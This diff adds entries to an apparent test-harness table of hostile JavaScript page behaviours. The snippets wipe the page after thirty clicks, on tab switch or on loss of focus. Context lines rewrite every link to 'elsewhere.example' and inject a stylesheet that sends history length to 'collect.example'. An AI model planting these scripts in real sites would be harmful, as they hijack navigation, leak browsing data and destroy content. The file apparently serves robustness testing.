@@ -198,6 +198,12 @@ _FOR_THE_HARNESS = {
     ".forEach((each) => each.setAttribute('href', 'https://elsewhere.example/'))).observe("
     "document, { childList: true, subtree: true });",
     "dialogs": "confirm('Really?');",
+    # Nor does everybody stay patient, or look nowhere else.
+    "thirty clicks": "let clicks = 0; addEventListener('click', () => { if (++clicks > 30) "
+    "document.body.replaceChildren(); }, true);",
+    "never left": "document.addEventListener('visibilitychange', () => "
+    "document.body.replaceChildren());",
+    "never without focus": "addEventListener('blur', () => document.body.replaceChildren());",
     "style sheets": "document.head.insertAdjacentHTML('beforeend', '<link rel=\"stylesheet\" '\n"
     '  + `href="https://collect.example/a.css?${history.length}">`);',
 }
